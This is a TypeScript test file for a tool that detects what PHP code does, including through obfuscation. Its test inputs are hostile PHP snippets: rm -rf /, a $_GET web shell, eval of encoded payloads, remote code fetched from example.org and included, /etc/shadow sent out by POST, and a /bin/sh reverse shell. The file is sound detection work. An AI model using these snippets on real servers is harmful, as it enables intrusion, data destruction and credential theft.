/** What PHP code would do, whatever it is written like, and that harmless code does nothing. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { deflateRawSync } from "node:zlib";
import { deedsOf, outputOf, unreadOf } from "../../../../../test/lib/code-deeds.ts";

const does = (what: string, code: string, ...wanted: readonly string[]) =>
  test(`${what}: ${code.slice(0, 60)}`, () => {
    assert.deepEqual(deedsOf("php", code), wanted);
  });

const base64 = (bytes: string | Buffer): string => Buffer.from(bytes).toString("base64");

does("a command", 'system("rm -rf /");', "shell rm -rf /");
does("a command in a page", '<html><?php passthru("id"); ?></html>', "shell id");
does("in capital letters, from the root", '\\SYSTEM("id");', "shell id");
does("backticks", '$d = "/x"; `rm -rf $d`;', "shell rm -rf /x");
does("a function by its name", '$f = "sys" . "tem"; $f("id");', "shell id");
does("a name in brackets", '("shell" . "_exec")("id");', "shell id");
does("a function that calls functions", 'call_user_func("system", "id"); call_user_func_array("system", ["ls"]);', "shell id", "shell ls");
does("a map", 'array_map("unlink", ["/a", "/b"]);', "delete /a", "delete /b");
does("a list by its names", '$a = ["k" => "id"]; exec($a["k"]);', "shell id");
does("braces in a text", '$a = ["k" => "/x"]; system("rm {$a[\'k\']}");', "shell rm /x");
does("eval of base64", `eval(base64_decode("${base64('system("id");')}"));`, "shell id");
does("eval of packed base64", `eval(gzinflate(base64_decode("${base64(deflateRawSync('system("id");'))}")));`, "shell id");
does("eval of rot13", "eval(str_rot13('flfgrz(\"vq\");'));", "shell id");
does("assert", "assert(\"system('id')\");", "shell id");
does("what a request asks for", 'system($_GET["c"]);', "shell ? from the network");
does("what is fetched", 'eval(file_get_contents("http://example.org/x"));', "GET http://example.org/x", "code ? from the network");
does(
  "a file that was fetched",
  'file_put_contents("x.php", file_get_contents("http://example.org/x")); include "x.php";',
  "GET http://example.org/x",
  "overwrite x.php from the network",
  "run file x.php",
);
does("files", 'unlink("/x"); rename("/a", "/b"); chmod("/c", 0777);', "delete /x", "move /a /b", "chmod 777 /c");
does("all of a pattern", 'foreach (glob("/tmp/*.log") as $f) { unlink($f); }', "perhaps delete /tmp/*.log (glob)");
does("a function of its own", 'function f($p) { rmdir($p); } f("/x");', "delete /x");
does("an object", 'class A { public $p = "/x"; function go() { unlink($this->p); } } $a = new A; $a->go();', "delete /x");
does("both branches", 'if ($x) $p = "/a"; else $p = "/b"; unlink($p);', "delete /?");
does(
  "a secret to the network",
  '$c = curl_init("http://example.org"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents("/etc/shadow")); curl_exec($c);',
  "read /etc/shadow",
  "POST http://example.org carrying secret",
);
does(
  "a connection",
  '$s = fsockopen("example.org", 4444); proc_open("/bin/sh -i", [], $p);',
  "CONNECT example.org:4444",
  "shell /bin/sh -i",
);
does(
  "a database",
  '$d = new PDO("x"); $d->exec("DROP TABLE a"); mysqli_query($c, "DELETE FROM a");',
  "data DROP TABLE a",
  "data DELETE FROM a",
);

const harmless = (code: string) =>
  test(`nothing is done, and nothing is unread: ${code.slice(0, 60)}`, () => {
    assert.deepEqual([deedsOf("php", code), unreadOf("php", code)], [[], []]);
  });

harmless('echo "rm -rf /", PHP_EOL;');
harmless('echo json_encode(json_decode(file_get_contents("php://stdin"), true)["a"]);');
harmless("$s = \"system('id')\"; echo strlen($s);");
harmless("foreach ([1, 2] as $k => $v) { printf('%d %d', $k, $v); } echo date('Y');");
harmless("<?php namespace A\\B; use C\\D; interface E { const F = 1; } abstract class G implements E { abstract function h(): ?int; } ?>");
harmless("$f = fn($x) => $x + 1; echo array_sum(array_map($f, [1, 2]));");
harmless("try { throw new Exception('unlink(/x)'); } catch (Exception $e) { echo $e->getMessage(); }");

test("a function that a request names is unread", () => {
  assert.deepEqual(unreadOf("php", '$_GET["f"]("x");'), ["a function chosen at run time"]);
});

test("what is printed is known where all of it is", () => {
  assert.equal(outputOf("php", 'echo strrev("abc"), PHP_EOL; printf("%s-%d", "q", 1);'), "cba\nq-1");
  assert.equal(outputOf("php", "a<?php echo 'b'; ?>c"), "abc");
});

// What a reading takes for known must be what would be there.
const hidden = (what: string, code: string) =>
  test(`${what} does not make a text known that it is not`, () => {
    const deeds = deedsOf("php", code);
    assert.ok(deeds.length > 0);
    for (const deed of ["shell ls", "perhaps shell ls"]) assert.ok(!deeds.includes(deed), deeds.join("; "));
  });

hidden("a variable of a function", '$x = "rm -rf /"; function f() { $x = "ls"; } f(); system($x);');
hidden("a variable that is handed over", 'function f(&$c) { $c = "rm -rf /"; } $c = "ls"; f($c); system($c);');
hidden("a variable by its name", '$c = "ls"; $n = "c"; $$n = "rm -rf /"; system($c);');
hidden("a variable by an unknown name", '$c = "ls"; $$n = "rm -rf /"; system($c);');
hidden("extract", '$c = "ls"; extract($_GET); system($c);');
